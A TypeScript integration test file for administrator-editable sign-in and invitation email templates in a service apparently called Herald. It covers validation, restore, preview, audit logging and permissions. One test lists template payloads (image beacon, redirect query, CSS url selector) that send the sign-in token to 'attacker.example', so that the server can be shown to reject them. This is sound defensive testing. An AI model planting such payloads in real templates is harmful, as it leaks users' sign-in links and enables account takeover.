import { randomUUID } from 'node:crypto';
import { anAddress, APP_URL, linkTokenIn, useSignInSystem } from '../auth/sign-in.support';
import { anOrganizationWorld, bearer } from '../organizations/organizations.support';
import { eventually } from '../../support/eventually';
import { useMigrationDatabase } from '../../support/migration-database';
import { TEST_DATABASE_URL } from '../../support/test-env';
import { anAdministrator } from '../admin/admin.support';

// A replacement is platform-wide: this file has a database of its own, so the emails that test
// files running beside it read keep the built-in text.
const SUFFIX = 'system_templates';
const own = useMigrationDatabase(SUFFIX);
beforeAll(() => own.migrateAll());
const url = new URL(TEST_DATABASE_URL);
url.pathname = `${url.pathname}_${SUFFIX}`;

const MAGIC = '/api/v1/admin/system-templates/auth.magic_link';
const INVITATION = '/api/v1/admin/system-templates/organization.invitation';

describe('Herald’s own email templates under /admin/system-templates', () => {
  const sut = useSignInSystem({ DATABASE_URL: url.toString(), MAGIC_LINK_PER_IP_PER_HOUR: '1000' });
  const http = () => sut.http();
  let writer: Awaited<ReturnType<typeof anAdministrator>>;
  beforeAll(async () => {
    writer = await anAdministrator(sut.system.api.db, ['system_templates:read', 'system_templates:write', 'audit_log:read']);
  });
  afterEach(async () => {
    for (const path of [MAGIC, INVITATION]) expect((await http().delete(path).set(writer.auth)).status).toBe(200);
  });

  /** Asks for a sign-in link and waits for the email the SMTP sink receives. */
  async function nextMagicLinkEmail(address = anAddress('mail')) {
    expect((await http().post('/api/v1/auth/magic-link').send({ email: address })).status).toBe(202);
    return eventually(() => {
      const [mail] = sut.smtp.for(address);
      expect(mail).toBeDefined();
      return { mail, address };
    });
  }

  it('when an administrator replaces the magic-link template, then the next email uses it and its link still signs in', async () => {
    const put = await http().put(MAGIC).set(writer.auth).send({
      subject: 'Sign in to Acme Notifications',
      body: '<h1>Acme</h1><p><a href="{{link}}">Continue</a> ({{minutes}} min)</p>',
      text_body: 'Acme: open {{link}} within {{minutes}} minutes.',
    });
    expect(put.status).toBe(200);
    expect(put.body).toMatchObject({
      name: 'auth.magic_link',
      customized: true,
      subject: 'Sign in to Acme Notifications',
      updated_at: expect.any(String),
      updated_by: { type: 'user', id: writer.user_id, email: writer.email },
      built_in: { subject: 'Your Herald sign-in link' },
    });

    const { mail, address } = await nextMagicLinkEmail();
    expect(mail.parsed.subject).toBe('Sign in to Acme Notifications');
    expect(mail.parsed.text).toMatch(/^Acme: open https:\/\/app\.herald\.test\/auth\/verify\?token=\S+ within 15 minutes\.\s*$/);
    const token = linkTokenIn(sut.smtp, address) as string;
    expect(mail.parsed.html).toContain(`<h1>Acme</h1><p><a href="${APP_URL}/auth/verify?token=${token}">Continue</a> (15 min)</p>`);

    const signedIn = await http().post('/api/v1/auth/magic-link/verify').send({ token });
    expect(signedIn.status).toBe(200);
    expect(signedIn.body.user.email).toBe(address);

    const audit = await http().get('/api/v1/admin/audit-log').query({ action: 'system_template.updated' }).set(writer.auth);
    expect(audit.body.items[0]).toMatchObject({
      actor_type: 'user',
      actor_user_id: writer.user_id,
      metadata: { target_id: 'auth.magic_link', was_customized: false, parts: ['subject', 'body', 'text_body'] },
    });
    expect(JSON.stringify(audit.body.items[0])).not.toContain('Acme');
  });

  it('when the replacement is deleted, then the next email is the built-in one again, and deleting again changes nothing', async () => {
    await http().put(MAGIC).set(writer.auth).send({ body: '<p>Custom: <a href="{{link}}">in</a></p>' });
    const custom = await nextMagicLinkEmail();
    expect(custom.mail.parsed.html).toContain('Custom:');
    expect(custom.mail.parsed.subject).toBe('Your Herald sign-in link');

    const restored = await http().delete(MAGIC).set(writer.auth);
    expect(restored.status).toBe(200);
    expect(restored.body).toMatchObject({ customized: false, updated_at: null, updated_by: null, subject: 'Your Herald sign-in link' });
    expect(restored.body.body).toBe(restored.body.built_in.body);
    const again = await http().delete(MAGIC).set(writer.auth);
    expect(again.status).toBe(200);
    expect(again.body).toEqual(restored.body);

    const { mail } = await nextMagicLinkEmail();
    expect(mail.parsed.html).not.toContain('Custom:');
    expect(mail.parsed.text).toContain('Use this link to sign in to Herald:');
    const audit = await http().get('/api/v1/admin/audit-log').query({ action: 'system_template.restored' }).set(writer.auth);
    expect(audit.body.items.slice(0, 2).map((e: { metadata: unknown }) => e.metadata)).toEqual([
      { target_id: 'auth.magic_link', was_customized: false },
      { target_id: 'auth.magic_link', was_customized: true },
    ]);
  });

  it('when a replacement lacks {{link}}, uses an unknown variable or does not parse, then 422 names the part and nothing changes', async () => {
    const noLink = await http().put(MAGIC).set(writer.auth).send({ body: '<p>Sign in somewhere</p>' });
    expect(noLink.status).toBe(422);
    expect(noLink.body).toEqual({
      detail: [{ loc: ['body', 'body'], msg: 'body must use {{link}}: the email is useless without it', type: 'value_error' }],
    });
    const textNoLink = await http().put(MAGIC).set(writer.auth).send({ body: '{{link}}', text_body: 'Sign in somewhere' });
    expect(textNoLink.status).toBe(422);
    expect(textNoLink.body.detail.map((d: { loc: string[] }) => d.loc)).toEqual([['body', 'text_body']]);
    const unknown = await http().put(MAGIC).set(writer.auth).send({ subject: 'Hi {{name}}', body: '{{link}}' });
    expect(unknown.status).toBe(422);
    expect(unknown.body.detail[0]).toMatchObject({ loc: ['body', 'subject'], msg: expect.stringContaining('{{name}}') });
    const broken = await http().put(MAGIC).set(writer.auth).send({ body: '{{link}} {{ link | upper }}' });
    expect(broken.status).toBe(422);
    expect(broken.body.detail[0].loc).toEqual(['body', 'body']);
    const missingBody = await http().put(MAGIC).set(writer.auth).send({ subject: 'x' });
    expect(missingBody.status).toBe(422);
    expect(missingBody.body.detail[0].loc).toEqual(['body', 'body']);

    expect((await http().get(MAGIC).set(writer.auth)).body.customized).toBe(false);
  });

  it('when a replacement would send the link to another host (image, URL query, text body, subject, CSS), then 422 names the part and emails keep the built-in', async () => {
    const leaks = [
      {
        path: MAGIC,
        send: { body: '<p>Hi</p><img src="https://attacker.example/p.gif?t={{link}}"><a href="{{link}}">in</a>' },
        loc: 'body',
      },
      { path: INVITATION, send: { body: '<a href="https://attacker.example/go?next={{link}}">Accept</a>' }, loc: 'body' },
      {
        path: MAGIC,
        send: { body: '<a href="{{link}}">in</a>', text_body: 'Open https://attacker.example/?t={{link}}' },
        loc: 'text_body',
      },
      { path: MAGIC, send: { subject: 'Your link {{link}}', body: '<a href="{{link}}">in</a>' }, loc: 'subject' },
      {
        path: INVITATION,
        send: { body: '<style>a[href*="k3"] { background: url(https://attacker.example/k3) }</style><a href="{{link}}">Accept</a>' },
        loc: 'body',
      },
    ];
    for (const { path, send, loc } of leaks) {
      const put = await http().put(path).set(writer.auth).send(send);
      expect(put.status).toBe(422);
      expect(put.body.detail).toEqual([{ loc: ['body', loc], msg: expect.stringContaining('{{link}}'), type: 'value_error' }]);
    }
    const img = await http().put(MAGIC).set(writer.auth).send(leaks[0].send);
    expect(img.body.detail[0].msg).toContain('src attribute of <img>');
    const draft = await http().post(`${MAGIC}/preview`).set(writer.auth).send(leaks[0].send);
    expect(draft.status).toBe(422);

    // Nothing was stored: the sign-in link goes out in the built-in email, to no other host.
    const { mail } = await nextMagicLinkEmail();
    expect(mail.parsed.html).toContain('Sign in to Herald');
    expect(mail.parsed.html).not.toContain('attacker.example');
  });

  it('when a replacement stored before the link rule sends the link to another host, then the built-in email goes out instead', async () => {
    await sut.system.api.db.query(`INSERT INTO system_templates (name, body) VALUES ('auth.magic_link', $1)`, [
      '<p>Stored earlier</p><img src="https://attacker.example/p.gif?t={{link}}"><a href="{{link}}">in</a>',
    ]);
    const { mail, address } = await nextMagicLinkEmail();
    expect(mail.parsed.html).toContain('Sign in to Herald');
    expect(mail.parsed.html).not.toContain('attacker.example');
    const signedIn = await http()
      .post('/api/v1/auth/magic-link/verify')
      .send({ token: linkTokenIn(sut.smtp, address) });
    expect(signedIn.status).toBe(200);
  });

  it('when a replacement puts the link as an <a> href and as text of its own, then it is accepted, as the built-in ones are', async () => {
    const legit = await http().put(MAGIC).set(writer.auth).send({
      body: "<p><a href='{{ link }}' style='color:#333'>Sign in</a></p><p>Or paste: {{link}}</p>",
      text_body: 'Sign in: <{{link}}>.',
    });
    expect(legit.status).toBe(200);
    for (const path of [MAGIC, INVITATION]) {
      const builtIn = (await http().get(path).set(writer.auth)).body.built_in;
      const put = await http().put(path).set(writer.auth).send(builtIn);
      expect(put.status).toBe(200);
    }
  });

  it('when the invitation template is replaced, then the next invitation email uses it and its link still accepts', async () => {
    const put = await http()
      .put(INVITATION)
      .set(writer.auth)
      .send({ subject: 'Join {{organization}} ({{role}})', body: '<p>{{inviter}} wants you: <a href="{{link}}">accept</a></p>' });
    expect(put.status).toBe(200);
    const world = await anOrganizationWorld(sut.system.api.db, sut.config);
    const address = anAddress('invitee');
    const invited = await http()
      .post(`/api/v1/organizations/${world.organizationId}/invitations`)
      .set(bearer(world.members.admin))
      .send({ email: address, role: 'viewer' });
    expect(invited.status).toBe(201);
    const mail = await eventually(() => {
      const [m] = sut.smtp.for(address);
      expect(m).toBeDefined();
      return m;
    });
    const { rows } = await sut.system.api.db.query<{ name: string }>('SELECT name FROM organizations WHERE id = $1', [
      world.organizationId,
    ]);
    expect(mail.parsed.subject).toBe(`Join ${rows[0].name} (viewer)`);
    // No text_body given: the text part is made from the HTML, link included.
    const token = /\/invitations\/accept\?token=([A-Za-z0-9_%-]+)/.exec(mail.parsed.text ?? '')?.[1];
    expect(token).toBeDefined();
    expect(mail.parsed.html).toContain('wants you: <a href=');
    const accepted = await http()
      .post('/api/v1/invitations/accept')
      .send({ token: decodeURIComponent(token as string) });
    expect(accepted.status).toBe(200);
    expect(accepted.body.role).toBe('viewer');
  });

  it('when the templates are listed, then each shows whether it is customized, its variables and who changed it', async () => {
    await http().put(INVITATION).set(writer.auth).send({ body: '{{link}}' });
    const list = await http().get('/api/v1/admin/system-templates').set(writer.auth);
    expect(list.status).toBe(200);
    expect(list.body).toMatchObject({ total: 2, page: 1, per_page: 25, total_pages: 1 });
    const [magic, invitation] = list.body.items;
    expect(magic).toMatchObject({ name: 'auth.magic_link', customized: false, updated_at: null, updated_by: null });
    expect(magic.variables).toEqual([
      { name: 'link', description: expect.any(String), required: true },
      { name: 'minutes', description: expect.any(String), required: false },
    ]);
    expect(invitation).toMatchObject({
      name: 'organization.invitation',
      customized: true,
      updated_by: { type: 'user', id: writer.user_id },
    });
    expect(invitation.variables.map((v: { name: string }) => v.name)).toEqual(['link', 'organization', 'inviter', 'role', 'days']);
  });

  it('when a template is previewed, then it renders samples, given values or a draft, and nothing is sent or stored', async () => {
    const events = async () => Number((await sut.system.api.db.query('SELECT count(*) AS n FROM events')).rows[0].n);
    const before = await events();
    const builtIn = await http().post(`${MAGIC}/preview`).set(writer.auth).send({});
    expect(builtIn.status).toBe(200);
    expect(builtIn.body).toMatchObject({ source: 'built_in', subject: 'Your Herald sign-in link' });
    expect(builtIn.body.text).toContain(`${APP_URL}/auth/verify?token=hml_sample`);

    const given = await http()
      .post(`${INVITATION}/preview`)
      .set(writer.auth)
      .send({ variables: { organization: '<Tom & Jerry>' } });
    expect(given.body.subject).toBe('You are invited to <Tom & Jerry> on Herald');
    expect(given.body.html).toContain('<strong>&lt;Tom &amp; Jerry&gt;</strong>');

    const draft = await http().post(`${MAGIC}/preview`).set(writer.auth).send({ body: '<b>{{minutes}}</b> {{link}}' });
    expect(draft.body).toMatchObject({ source: 'draft', html: `<b>15</b> ${APP_URL}/auth/verify?token=hml_sample` });
    const badDraft = await http().post(`${MAGIC}/preview`).set(writer.auth).send({ body: 'no link' });
    expect(badDraft.status).toBe(422);
    const typo = await http()
      .post(`${MAGIC}/preview`)
      .set(writer.auth)
      .send({ variables: { minuets: 5 } });
    expect(typo.body.detail[0].loc).toEqual(['body', 'variables', 'minuets']);

    expect(await events()).toBe(before);
    expect((await http().get(MAGIC).set(writer.auth)).body.customized).toBe(false);
  });

  it('when a name is not a system template, then every operation on it is 404', async () => {
    const path = `/api/v1/admin/system-templates/auth.${randomUUID()}`;
    expect((await http().get(path).set(writer.auth)).status).toBe(404);
    expect((await http().put(path).set(writer.auth).send({ body: '{{link}}' })).status).toBe(404);
    expect((await http().delete(path).set(writer.auth)).status).toBe(404);
    expect((await http().post(`${path}/preview`).set(writer.auth).send({})).status).toBe(404);
  });

  it('when input breaks the documented limits or types, then a 4xx names the field and never a 5xx', async () => {
    const put = (body: unknown) =>
      http()
        .put(MAGIC)
        .set(writer.auth)
        .send(body as object);
    const locOf = async (res: Promise<{ status: number; body: { detail: Array<{ loc: unknown[] }> } }>) => {
      const r = await res;
      expect(r.status).toBe(422);
      return r.body.detail[0].loc;
    };
    expect(await locOf(put({ body: 123 }))).toEqual(['body', 'body']);
    expect(await locOf(put({ body: `{{link}}${'x'.repeat(102_400)}` }))).toEqual(['body', 'body']);
    expect(await locOf(put({ body: '{{link}}', subject: 's'.repeat(501) }))).toEqual(['body', 'subject']);
    expect(await locOf(put({ body: '{{link}}\u0000' }))).toEqual(['body', 'body']);
    expect((await put({ body: '{{link}}', unknown: 1 })).status).toBe(422);
    const preview = (body: unknown) =>
      http()
        .post(`${MAGIC}/preview`)
        .set(writer.auth)
        .send(body as object);
    expect(await locOf(preview({ variables: { link: { nested: true } } }))).toEqual(['body', 'variables', 'link']);
    expect((await preview({ subject: 'draft without body' })).status).toBe(422);
    const huge = await put({ body: `{{link}}${'x'.repeat(2_100_000)}` });
    expect(huge.status).toBe(413);
    expect(
      (
        await http()
          .get(`/api/v1/admin/system-templates/${'a'.repeat(101)}`)
          .set(writer.auth)
      ).status,
    ).toBe(422);
    expect((await http().get(MAGIC).set(writer.auth)).body.customized).toBe(false);
  });

  it('when a system account with system_templates:write replaces a template, then it is served and named as the editor', async () => {
    const admin = await anAdministrator(sut.system.api.db, []);
    const account = await http()
      .post('/api/v1/admin/system-accounts')
      .set(admin.auth)
      .send({ name: 'templates-bot', permissions: ['system_templates:write'] });
    const credential = await http().post(`/api/v1/admin/system-accounts/${account.body.id}/credentials`).set(admin.auth).send({});
    const put = await http()
      .put(MAGIC)
      .set({ Authorization: `Bearer ${credential.body.secret}` })
      .send({ body: '<a href="{{link}}">bot</a>' });
    expect(put.status).toBe(200);
    expect(put.body.updated_by).toEqual({ type: 'system_account', id: account.body.id, name: 'templates-bot' });
  });
});
